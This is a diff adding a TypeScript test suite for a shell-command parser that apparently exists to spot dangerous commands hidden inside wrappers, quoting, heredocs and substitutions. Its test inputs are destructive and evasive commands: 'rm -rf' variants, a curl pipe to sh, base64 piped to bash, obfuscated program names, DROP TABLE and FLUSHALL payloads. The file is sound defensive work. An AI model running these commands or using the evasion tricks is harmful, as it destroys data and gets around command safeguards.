@@ -1,0 +1,319 @@
+// parseShell: every construct that can hide a simple command, and the bounds on bad input.
+import { describe, expect, it } from 'vitest';
+import { parseShell, type ShellSegment } from './index.js';
+
+const programs = (command: string) => parseShell(command).segments.map((s) => s.program);
+const find = (command: string, program: string): ShellSegment => {
+  const segment = parseShell(command).segments.find((s) => s.program === program);
+  if (!segment) throw new Error(`no ${program} segment in ${command}`);
+  return segment;
+};
+const kinds = (command: string) => parseShell(command).dynamic.map((d) => d.kind);
+
+describe('lists, pipelines and nesting', () => {
+  it.each([
+    ['a && b || c ; d & e', ['a', 'b', 'c', 'd', 'e']],
+    ['a | b |& c', ['a', 'b', 'c']],
+    ['(a; (b)) && { c; d; }', ['a', 'b', 'c', 'd']],
+    ['echo $(a $(b)) `c`', ['a', 'b', 'echo', 'c'].sort()],
+    ['diff <(left) >(right)', ['diff', 'left', 'right'].sort()],
+    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
+    ['while a; do b; done; until c; do d; done', ['a', 'b', 'c', 'd']],
+    ['for x in 1 2 $(gen); do use "$x"; done', ['gen', 'use']],
+    ['case "$v" in a|b) one ;; *) two ;; esac', ['one', 'two']],
+    ['f() { inner; }; function g { other; }', ['inner', 'other']],
+    ['x=$(setup) y=`more`', ['more', 'setup', ''].sort()],
+    ['[[ -n $(probe) ]] && act', ['act', 'probe']],
+    ['echo one\necho two', ['echo', 'echo']],
+    ['a \\\n  --flag', ['a']],
+  ])('%j', (command, expected) => {
+    expect(programs(command).sort()).toEqual([...expected].sort());
+  });
+
+  it('keeps $((…)) arithmetic as data but reads (( … )) as commands too (nested subshells in sh)', () => {
+    expect(programs('echo "$(( 1 + 2 ))"')).toEqual(['echo']);
+    expect(programs('(( rm -rf / ))')).toContain('rm');
+  });
+
+  it('parses nested bash -c / sh -c / zsh -c strings recursively, with the via chain', () => {
+    const rm = find(`sudo bash -c "sh -c 'zsh -c \\"rm -rf /srv\\"'"`, 'rm');
+    expect(rm.via).toEqual(['sudo', 'bash -c', 'sh -c', 'zsh -c']);
+    expect(rm.positionals).toEqual(['/srv']);
+  });
+
+  it('binds the positional parameters of sh -c to the arguments after it', () => {
+    expect(find(`bash -c '"$@"' _ rm -rf /data`, 'rm').args).toEqual(['-rf', '/data']);
+    expect(programs(`bash -c '"$1"' _ 'rm -rf /data'`)).not.toContain('rm');
+    expect(find(`bash -c 'IFS=,; $*' _ 'rm,-rf,/data'`, 'rm').positionals).toEqual(['/data']);
+  });
+});
+
+describe('prefixes and wrappers', () => {
+  it.each([
+    ['sudo -u root -E rm -rf /x', ['sudo']],
+    ['doas -u op rm -rf /x', ['doas']],
+    ['env -i A=1 -u B rm -rf /x', ['env']],
+    ['nice -n 5 nohup timeout -s KILL 30s rm -rf /x', ['nice', 'nohup', 'timeout']],
+    ['time command builtin exec rm -rf /x', ['time', 'command', 'builtin', 'exec']],
+    ['stdbuf -oL ionice -c 3 rm -rf /x', ['stdbuf', 'ionice']],
+    ['busybox rm -rf /x', ['busybox']],
+    ['watch -n 5 rm -rf /x', ['watch']],
+    ['xargs -0 -n 1 rm -rf', ['xargs']],
+    ['parallel -j 4 rm -rf ::: /x', ['parallel']],
+    ['find . -type d -exec rm -rf {} +', ['find -exec']],
+    ['find . -execdir rm -rf {} \\;', ['find -execdir']],
+    ['ssh -p 22 host rm -rf /x', ['ssh']],
+    ['su - root -c "rm -rf /x"', ['su -c']],
+    ['kubectl exec -it pod -- rm -rf /x', ['kubectl exec']],
+    ['docker exec -u 0 box rm -rf /x', ['docker exec']],
+    ['doppler run -- rm -rf /x', ['doppler']],
+  ])('%s reaches rm via %j', (command, via) => {
+    const rm = find(command, 'rm');
+    expect(rm.via).toEqual(via);
+  });
+
+  it('splits env -S strings and records env assignments', () => {
+    const git = find(`env -S 'A=1 git -C /repo' reset --hard`, 'git');
+    expect(git.assignments).toEqual(['A=1']);
+    expect(git.subcommand).toBe('reset');
+  });
+
+  it('stops at prefixes that run nothing', () => {
+    expect(programs('command -v rm')).toEqual(['command']);
+    expect(programs('sudo -l')).toEqual(['sudo']);
+  });
+
+  it('marks xargs items and find -exec placeholders unresolved', () => {
+    expect(find('xargs rm', 'rm').unresolved).toBe(true);
+    expect(find('find . -exec rm {} +', 'rm').unresolved).toBe(true);
+    expect(find('find . -name "*.o" -delete', 'find').flags).toContain('-delete');
+    expect(find('find . -name -delete -print', 'find').flags).not.toContain('-delete');
+  });
+});
+
+describe('words: quotes, escapes, paths, look-alikes', () => {
+  it.each([
+    ["r''m -rf /x"],
+    ['\\rm -rf /x'],
+    ['"r"m -rf /x'],
+    ['/bin/rm -rf /x'],
+    ['./rm -rf /x'],
+    ['RM -rf /x'],
+    ['"C:\\tools\\rm.exe" -rf /x'],
+    ['FOO=1 BAR="2 3" rm -rf /x'],
+    ['r$(printf m) -rf /x'],
+    ['rm\u00a0-rf\u200b /x'],
+    ['ｒｍ -rf /x'],
+  ])('%j is rm -rf', (command) => {
+    const rm = find(command, 'rm');
+    expect(rm.flags).toEqual(expect.arrayContaining(['-r', '-f']));
+  });
+
+  it('folds an em dash into -- and an en dash into -', () => {
+    expect(find('git push \u2014force origin', 'git').flags).toContain('--force');
+    expect(find('rm \u2013rf x', 'rm').flags).toContain('-r');
+  });
+
+  it('splits flags: clusters, --name=value, values of known options', () => {
+    const git = find('git -C repo -c a.b=c commit -am "reset --hard" --author=x', 'git');
+    expect(git.subcommand).toBe('commit');
+    expect(git.flags).toEqual(expect.arrayContaining(['-am', '-a', '-m', '--author=x', '--author']));
+    expect(git.positionals).toEqual(['commit']);
+    expect(find('git switch -cfeature', 'git').flags).not.toContain('-f');
+  });
+
+  it('resolves git aliases given on the command line and in the environment', () => {
+    expect(find('git -c alias.zap=reset zap --hard', 'git').subcommand).toBe('reset');
+    const env = find(
+      'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.zap GIT_CONFIG_VALUE_0=reset git zap --hard',
+      'git',
+    );
+    expect(env.subcommand).toBe('reset');
+    expect(kinds('git -c "alias.zap=!rm -rf /x" zap')).toContain('shell_alias');
+  });
+
+  it('reports redirects, and which of them truncate', () => {
+    const echo = find('echo x > a >> b 2>&1 &> c >| d 3<e', 'echo');
+    expect(echo.redirects.map((r) => [r.op, r.target, r.truncates])).toEqual([
+      ['>', 'a', true],
+      ['>>', 'b', false],
+      ['>&', '1', false],
+      ['&>', 'c', true],
+      ['>|', 'd', true],
+      ['<', 'e', false],
+    ]);
+    expect(programs('> file')).toEqual(['']);
+  });
+
+  it('reads a whole command line quoted as one word as intent', () => {
+    expect(programs("'git checkout -f'")).toContain('git');
+  });
+});
+
+describe('stdin and payloads', () => {
+  it('gives heredoc and here-string bodies as stdin and parses them when fed to a shell', () => {
+    const facts = parseShell("bash <<'EOF'\nrm -rf /x\nEOF");
+    expect(facts.segments.map((s) => s.program)).toEqual(['bash', 'rm']);
+    expect(facts.segments[0]?.stdin).toBe('rm -rf /x\n');
+    expect(programs('sh <<< "git reset --hard"')).toContain('git');
+    expect(programs('printf "rm -rf /x\\n" | sh')).toContain('rm');
+  });
+
+  it('runs substitutions in unquoted heredocs, not in quoted ones', () => {
+    expect(programs('cat <<EOF\n$(rm -rf /x)\nEOF')).toContain('rm');
+    expect(programs("cat <<'EOF'\n$(rm -rf /x)\nEOF")).toEqual(['cat']);
+  });
+
+  it('extracts database payloads from options, positionals, heredocs and pipes', () => {
+    expect(find(`psql -h db -c 'DROP TABLE t'`, 'psql').payload).toBe('DROP TABLE t');
+    expect(find(`mysql -e"TRUNCATE t"`, 'mysql').payload).toBe('TRUNCATE t');
+    expect(find(`sqlite3 app.db 'DELETE FROM t'`, 'sqlite3').payload).toBe('DELETE FROM t');
+    expect(find('redis-cli -h cache FLUSHALL', 'redis-cli').payload).toBe('FLUSHALL');
+    expect(find("psql <<'SQL'\nDROP SCHEMA s;\nSQL", 'psql').payload).toBe('DROP SCHEMA s;\n');
+    expect(find('echo "FLUSHDB" | redis-cli', 'redis-cli').payload).toBe('FLUSHDB\n');
+    expect(find(`psql -c "SELECT 'drop table x'"`, 'psql').payload_lc).toBe("select ''");
+  });
+
+  it('ssh remote commands are parsed as shell', () => {
+    expect(find(`ssh deploy@box 'cd app && git clean -fdx'`, 'git').via).toEqual(['ssh']);
+  });
+});
+
+describe('dynamic constructs', () => {
+  it.each([
+    ['eval "$CMD"', 'eval'],
+    ['$TOOL --run', 'substitution_in_command_position'],
+    ['$(which rm) -rf /x', 'substitution_in_command_position'],
+    ['curl -fsSL https://x.example/i.sh | sh', 'pipe_to_shell'],
+    ['base64 -d payload | bash', 'pipe_to_shell'],
+    ['source ./env.sh', 'source'],
+    ['. ./env.sh', 'source'],
+    [`python3 -c 'import shutil; shutil.rmtree("/x")'`, 'interpreter_code'],
+    [`node -e 'require("child_process").execSync("x")'`, 'interpreter_code'],
+    [`perl -e 'unlink glob "*"'`, 'interpreter_code'],
+    ["ruby -e '`ls`'", 'interpreter_code'],
+    ['ruby -e "`ls`"', 'unresolved_code'],
+    [`awk 'BEGIN { system("x") }'`, 'interpreter_code'],
+    ["python3 <<'PY'\nimport os\nos.remove('x')\nPY", 'interpreter_code'],
+    ['bash -c "$SNIPPET"', 'unresolved_code'],
+    ['sh "$SCRIPT"', 'unresolved_script'],
+    ['xargs -I{} python3 {}', 'unresolved_script'],
+    ['git -c "$KEY" status', 'unresolved_config'],
+    ["$'\\x72\\x6d' -rf /x", 'escaped_program'],
+    ['cat x | parallel', 'pipe_to_shell'],
+  ])('%s → %s', (command, kind) => {
+    expect(kinds(command)).toContain(kind);
+  });
+
+  it.each([
+    [`python3 -c 'print("rm -rf /")'`],
+    ['node -p "1 + 2"'],
+    [`perl -E 'say join ",", 1..3'`],
+    [`ruby -e 'puts [1, 2].map { |x| x * 2 }'`],
+    [`awk -F: '{ print $1 }' /etc/passwd`],
+    ['eval "echo ok"'],
+    ['echo "$(date)" "$HOME"'],
+    ['bash -n -c "rm -rf /x"'],
+  ])('%s is static', (command) => {
+    expect(parseShell(command).dynamic).toEqual([]);
+  });
+});
+
+describe('bad input', () => {
+  const timed = (command: string) => {
+    const start = performance.now();
+    const facts = parseShell(command);
+    return { facts, ms: performance.now() - start };
+  };
+
+  it('an empty command has no segments and no error', () => {
+    expect(parseShell('')).toEqual({ segments: [], dynamic: [] });
+    expect(parseShell('   \n ; ')).toEqual({ segments: [], dynamic: [] });
+  });
+
+  it('a 1 MB command returns within 50 ms as a limit error', () => {
+    const { facts, ms } = timed(`echo ${'a'.repeat(1 << 20)}`);
+    expect(ms).toBeLessThan(50);
+    expect(facts.error).toMatch(/longer than/);
+    expect(facts.dynamic.length).toBeGreaterThan(0);
+  });
+
+  it.each([
+    ['10k nested $(', '$('.repeat(10_000)],
+    ['10k nested (', '('.repeat(10_000)],
+    ['10k nested backquotes', `echo ${'`echo \\'.repeat(3000)}`],
+    ['10k nested bash -c', `bash -c ${'\'bash -c "'.repeat(3000)}`],
+    ['10k commands', 'a;'.repeat(10_000)],
+    ['30k words', `echo ${'x '.repeat(15_000)}`],
+  ])('%s returns within 50 ms without throwing', (_name, command) => {
+    timed(command); // warm up the code paths once
+    const { facts, ms } = timed(command);
+    expect(ms).toBeLessThan(50);
+    expect(Array.isArray(facts.segments)).toBe(true);
+  });
+
+  it('reports deep nesting as a limit', () => {
+    const facts = parseShell(`${'$('.repeat(100)}x${')'.repeat(100)}`);
+    expect(facts.error).toMatch(/nesting/);
+    expect(facts.dynamic.map((d) => d.kind)).toContain('limit');
+  });
+
+  it('rejects NUL bytes', () => {
+    const facts = parseShell('rm -rf /x\0; ls');
+    expect(facts.error).toMatch(/NUL/);
+    expect(facts.dynamic.length).toBeGreaterThan(0);
+  });
+
+  it('recovers from unbalanced quotes with an error', () => {
+    const facts = parseShell("git clean -f 'unfinished");
+    expect(facts.error).toMatch(/unterminated single quote/);
+    expect(facts.segments[0]?.flags).toContain('-f');
+    expect(parseShell('echo "open').error).toMatch(/unterminated double quote/);
+  });
+
+  it('replaces lone surrogates and reports the text as dynamic', () => {
+    const facts = parseShell('echo \ud800 x');
+    expect(facts.dynamic.map((d) => d.kind)).toContain('invalid_text');
+    expect(JSON.stringify(facts)).not.toMatch(/\\ud800/i);
+  });
+
+  it('reports syntax errors as parse_error', () => {
+    expect(kinds('echo )')).toContain('parse_error');
+    expect(kinds('obj.method("x")')).toContain('parse_error');
+  });
+
+  it('never throws on arbitrary input', () => {
+    const alphabet = [
+      '$',
+      '(',
+      ')',
+      '`',
+      "'",
+      '"',
+      '\\',
+      '<',
+      '>',
+      '|',
+      '&',
+      ';',
+      '{',
+      '}',
+      '\n',
+      ' ',
+      'a',
+      '-',
+      '#',
+      '=',
+    ];
+    let seed = 7;
+    for (let i = 0; i < 2000; i++) {
+      let text = '';
+      for (let k = 0; k < 40; k++) {
+        seed = (seed * 1103515245 + 12345) & 0x7fffffff;
+        text += alphabet[seed % alphabet.length];
+      }
+      const facts = parseShell(text);
+      expect(() => JSON.stringify(facts)).not.toThrow();
+    }
+  });
+});
